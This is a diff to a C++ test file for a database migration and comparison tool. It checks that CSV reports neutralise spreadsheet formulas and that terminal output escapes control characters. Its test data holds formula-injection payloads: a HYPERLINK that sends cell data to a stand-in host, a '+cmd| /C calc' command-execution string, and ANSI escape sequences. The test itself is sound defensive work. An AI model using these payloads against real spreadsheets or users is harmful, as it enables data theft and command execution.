@@ -48,7 +48,7 @@ TEST(BatchVerify, AfterARunEveryTableMatchesApartFromTheExplainedRefusalsAndHand
              "CLIENTES: 30 iguais, 0 diferentes, 3 ausentes (3 explicados), 0 excedentes - confere\n",
              "  sequência GEN_CODCLI = 33, maior chave 32\n",
              "  ausente    chave 7: chave repetida na origem: a importação grava só a primeira\n",
-             "  ausente    chave 16: Trying to store a string of length 51 into a field that can only contain 50\n",
+             "  ausente    chave 16: Texto longo demais para COMPL (máximo 50)\n",
              "VENDEDOR: 10 iguais, 0 diferentes, 1 ausentes (1 explicados), 0 excedentes - confere\n",
              "Todas as diferenças: " + sample.program.folder() + "conferencia.csv\n",
              "O destino confere com a origem.\n"})
@@ -97,6 +97,54 @@ TEST(BatchVerify, ExitsTwoWhenItCannotStart) {
     EXPECT_TRUE(has(missing.err, "Connectar")) << missing.err;
     // A command line it does not take.
     EXPECT_EQ(sample.program.run({"--conferir", "--tabelas", "clientes", "--sim"}).status, 2);
+}
+
+TEST(BatchVerify, TextsFromTheDatabasesReachTheCsvFilesAsTextAndTheTerminalWithTheirControlsShown) {
+    // Seller 4's name is a formula too long for VEN_NOME: refused, and in recusadas.csv.
+    const TestDatabase source(schemaFile("tavlo-schema.sql") +
+                              "\nINSERT INTO VENDEDOR (ID, NOME) VALUES (1, 'Ana');\n"
+                              "INSERT INTO VENDEDOR (ID, NOME) VALUES (2, 'Bia');\n"
+                              "INSERT INTO VENDEDOR (ID, NOME) VALUES (3, 'Caio');\n"
+                              "INSERT INTO VENDEDOR (ID, NOME) VALUES "
+                              "(4, '=HYPERLINK(\"http://exemplo.invalido/?dados=\"&A1;\"clique aqui para ver\")');\n"
+                              "INSERT INTO VENDEDOR (ID, NOME) VALUES (5, '@SUM(1+1)');\n");
+    const TestDatabase destination(schemaFile("merak-schema.sql"));
+    const BatchProgram program;
+    program.writeSettings(source.path(), destination.path());
+    const BatchResult run = program.run({"--tabelas", "vendedores", "--sim", "--sem-copia"});
+    ASSERT_EQ(run.status, 1) << run.out << run.err;
+    const std::string refused = readFile(program.folder() + "recusadas.csv");
+    EXPECT_TRUE(has(refused,
+                    "\r\nVENDEDOR;4;VEN_NOME;\"'=HYPERLINK(\"\"http://exemplo.invalido/?dados=\"\"&A1;"
+                    "\"\"clique aqui para ver\"\")\";"))
+        << refused;
+
+    destination.run(
+        "UPDATE VENDEDOR SET VEN_NOME = '+cmd|'' /C calc''!A0' WHERE VEN_CODIGO = 1;\n"
+        "UPDATE VENDEDOR SET VEN_NOME = '-5' WHERE VEN_CODIGO = 2;\n"
+        "UPDATE VENDEDOR SET VEN_NOME = 'Zé' || ASCII_CHAR(27) || '[2J' || ASCII_CHAR(7) || ASCII_CHAR(13) "
+        "WHERE VEN_CODIGO = 3;\n"
+        "UPDATE VENDEDOR SET VEN_NOME = 'Eva' WHERE VEN_CODIGO = 5;\n"
+        "COMMIT;\n");
+    const BatchResult compared = program.run({"--conferir", "--tabelas", "vendedores"});
+    EXPECT_EQ(compared.status, 1) << compared.out << compared.err;
+    EXPECT_TRUE(
+        has(compared.out, "  diferente  chave 3, VEN_NOME: mapeamento \"Caio\", destino \"Zé\\x1b[2J\\x07\\x0d\"\n"))
+        << compared.out;
+    EXPECT_TRUE(has(compared.out, "  ausente    chave 4: Texto longo demais para VEN_NOME (máximo 50)\n"))
+        << compared.out;
+    for (const char control : {'\x1b', '\a', '\r'})
+        EXPECT_EQ(compared.out.find(control), std::string::npos) << static_cast<int>(control);
+
+    // A formula starts with an apostrophe; a number and any other text stay as they are.
+    const std::string csv = readFile(program.folder() + "conferencia.csv");
+    for (const std::string& line : std::vector<std::string>{
+             "\r\nVENDEDOR;1;diferente;VEN_NOME;Ana;'+cmd|' /C calc'!A0;\r\n",
+             "\r\nVENDEDOR;2;diferente;VEN_NOME;Bia;-5;\r\n",
+             "\r\nVENDEDOR;3;diferente;VEN_NOME;Caio;\"Zé\x1b[2J\a\r\";\r\n",
+             "\r\nVENDEDOR;5;diferente;VEN_NOME;'@SUM(1+1);Eva;\r\n",
+         })
+        EXPECT_TRUE(has(csv, line)) << line << "\n" << csv;
 }
 
 // The sample databases with the first source row of each table renumbered to a key above the
